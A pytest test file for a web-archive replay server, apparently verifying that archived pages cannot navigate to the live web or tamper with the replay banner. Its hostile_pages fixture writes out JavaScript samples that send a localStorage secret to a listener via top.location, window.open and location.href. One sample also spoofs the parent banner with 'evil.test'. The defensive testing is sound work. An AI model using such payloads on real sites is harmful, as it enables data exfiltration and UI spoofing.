"""The banner out of the archived page's reach, and no way out of the archive without a
click (issue 32, findings 13 and 14), in a real Chromium. Archived pages try
`top.location = live`, `window.open(live)`, navigating their own frame to the live web,
making themselves top-level, editing the banner above them (`parent.document`) and lying
to it; a listener on 127.0.0.2 ("the live web", test_seals) must see nothing, the banner
must keep saying what the server says, and a person's click on a link must still go to
the next archived page under the banner. Replayed by `mirror serve` (the banner and the
archived pages on two origins) and opened from a folder export on file://."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import Crawl, TestSite
from test_seals import Listeners, browser_page, listeners  # noqa: F401 (a fixture)

from mirror.replay.captures import CaptureIndex
from mirror.replay.export import export_folder
from mirror.replay.exportpath import export_path
from mirror.replay.serve import Site, start_replay_server

pytestmark = pytest.mark.browser

SETTLE = 2.0  # seconds a page has to try; the live control shows each escape within it


def hostile_pages(live: str) -> dict[str, str]:
    """Each page stores a secret in localStorage and tries to carry it to `live`."""
    keep = "localStorage.setItem('secret','s3cret');var s=localStorage.getItem('secret');"
    pages = {
        "top.html": f"top.location='{live}top?'+s;",
        "later.html": f"setTimeout(function(){{top.location.href='{live}later?'+s}},300);",
        "open.html": f"window.open('{live}open?'+s);",
        "self.html": f"location.href='{live}self?'+s;",
        "out.html": ("setTimeout(function(){try{top.location=location.href}catch(e){}"
                     "window.open(location.href,'_top')},100);"),
        "banner.html": (
            "try{parent.document.getElementById('mb-url').textContent='http://evil.test/'}"
            "catch(e){document.title='refused'}"
            "addEventListener('message',function(e){if(e.ports[0])"
            "e.ports[0].postMessage({path:'/1mp_/http://evil.test/',title:'evil'})},true);"
            "history.replaceState(null,'',location.pathname.replace('banner','index'));"),
    }
    return {name: (f"<!doctype html><html><head><title>{name}</title></head><body>"
                   f'<p>{name}</p><a id="next" href="index.html">next</a>'
                   f"<script>{keep}{js}</script></body></html>") for name, js in pages.items()}


def hostile_site(site: TestSite, live: str) -> None:
    pages = hostile_pages(live)
    links = "".join(f'<a href="{name}">{name}</a> ' for name in pages)
    site.page("/", f"<!doctype html><title>hostile</title><body>{links}")
    site.page("/index.html", "<!doctype html><title>index</title><body><p>index</p>")
    for name, body in pages.items():
        site.page(f"/{name}", body)


@pytest.fixture
async def hostile(make_site: Callable[[], Awaitable[TestSite]], listeners: Listeners,  # noqa: F811
                  crawl: Callable[..., Awaitable[Crawl]]) -> tuple[TestSite, Crawl]:
    site = await make_site()
    hostile_site(site, listeners.live)
    return site, await crawl([site.base])


async def visit(page: Any, url: str, found: Listeners) -> None:
    found.clear()
    await page.goto(url, wait_until="commit")
    await asyncio.sleep(SETTLE)


async def banner_says(page: Any) -> str:
    return str(await page.evaluate("document.getElementById('mb-url').textContent"))


async def test_the_live_pages_do_escape(make_site: Callable[[], Awaitable[TestSite]],
                                        listeners: Listeners) -> None:  # noqa: F811
    """The control: opened from the live site, each page reaches the listener."""
    site = await make_site()
    hostile_site(site, listeners.live)
    async with browser_page() as page:
        for name in ("top", "later", "open", "self"):
            await visit(page, f"{site.base}{name}.html", listeners)
            assert f"/{name}?s3cret" in listeners.hits, name


async def test_serve_keeps_archived_pages_in_the_archive_and_off_the_banner(
        hostile: tuple[TestSite, Crawl], listeners: Listeners) -> None:  # noqa: F811
    site, done = hostile
    runner, base = await start_replay_server(done.archive, Site("hostile"))
    try:
        async with browser_page() as page:
            for name in ("top", "later", "open", "self", "out", "banner"):
                url = f"{base}2/{site.base}{name}.html"
                await visit(page, url, listeners)
                assert (name, listeners.hits) == (name, [])
                assert (name, page.url) == (name, f"{base}2/{site.base}{name}.html".replace(
                    "2/", f"{_stamp(page.url)}/"))
                assert len(page.context.pages) == 1, name
                assert await banner_says(page) == f"{site.base}{name}.html".split("://")[1]
                await visit(page, url.replace("/2/", "/2mp_/"), listeners)  # top-level
                assert (name, listeners.hits) == (name, [])
                assert page.url.startswith(base) and "mp_" not in page.url, page.url
                assert await banner_says(page) == f"{site.base}{name}.html".split("://")[1]
            frame = page.frame_locator("#mirror-frame")
            await frame.locator("#next").click()  # a person's click: under the banner
            await page.wait_for_url(f"**/{site.base}index.html")
            assert await banner_says(page) == f"{site.base}index.html".split("://")[1]
            assert listeners.hits == []
    finally:
        await runner.cleanup()


def _stamp(url: str) -> str:
    return url.split("/")[3]


async def test_folder_export_keeps_pages_in_the_export(
        hostile: tuple[TestSite, Crawl], listeners: Listeners,  # noqa: F811
        tmp_path: Path) -> None:
    """On file:// no server stands between the page and the web: the seal cancels
    navigations away without a click, and opens no window without one."""
    site, done = hostile
    out = tmp_path / "export"
    export_folder(CaptureIndex.load(done.archive), out)
    async with browser_page() as page:
        for name in ("top", "later", "open", "self"):
            path = out / export_path(f"{site.base}{name}.html", "text/html")
            await visit(page, path.as_uri(), listeners)
            assert (name, listeners.hits, page.url) == (name, [], path.as_uri())
            assert len(page.context.pages) == 1, name
        await page.click("#next")  # a person's click goes on within the export
        await page.wait_for_function("document.title === 'index'")
    assert listeners.hits == []


async def test_serve_answers_each_origin_for_its_own(hostile: tuple[TestSite, Crawl]) -> None:
    """The banner's origin sends a browser's requests for archived bytes to the other (and
    gives them to tools and fetch() itself); that one sends everything else back, and a
    page opened there on its own under the banner."""
    from aiohttp import ClientSession

    site, done = hostile
    runner, base = await start_replay_server(done.archive, Site("hostile"))
    page = f"{site.base}index.html"
    try:
        async with ClientSession() as http:
            moved = await http.get(f"{base}2mp_/{page}", allow_redirects=False,
                                   headers={"Sec-Fetch-Dest": "iframe"})
            content = moved.headers["Location"].split("/2mp_/")[0] + "/"
            assert moved.status == 302 and content != base
            for dest in ("document", "frame", "worker", "image"):  # never the banner's origin
                asked = await http.get(f"{base}2id_/{page}", allow_redirects=False,
                                       headers={"Sec-Fetch-Dest": dest})
                assert asked.headers["Location"] == f"{content}2id_/{page}", dest
            for mode, dest in (("mp_", None), ("id_", None), ("mp_", "empty"), ("id_", "empty")):
                given = await http.get(f"{base}2{mode}/{page}", allow_redirects=False,
                                       headers={"Sec-Fetch-Dest": dest} if dest else {})
                assert (mode, dest, given.status) == (mode, dest, 200)
                assert "<p>index</p>" in await given.text()
                assert given.headers["Vary"] == "Sec-Fetch-Dest"
            framed = await http.get(f"{content}2mp_/{page}", headers={"Sec-Fetch-Dest": "iframe"})
            policy = framed.headers["Content-Security-Policy"]
            assert framed.status == 200 and f"frame-ancestors 'self' {base[:-1]}" in policy
            alone = await http.get(f"{content}2mp_/{page}", allow_redirects=False,
                                   headers={"Sec-Fetch-Dest": "document"})
            assert alone.headers["Location"] == f"{base[:-1]}/2/{page}"
            for own in ("", "_search?q=x", "_mirror/banner.js", f"2/{page}"):
                back = await http.get(content + own, allow_redirects=False)
                assert back.headers["Location"] == base + own, own
            frame_page = await http.get(f"{base}2/{page}", headers={"Sec-Fetch-Dest": "document"})
            assert f"frame-src {content[:-1]};" in frame_page.headers["Content-Security-Policy"]
            text = await frame_page.text()
            assert f'src="{content}' in text and 'sandbox="allow-scripts' in text
    finally:
        await runner.cleanup()
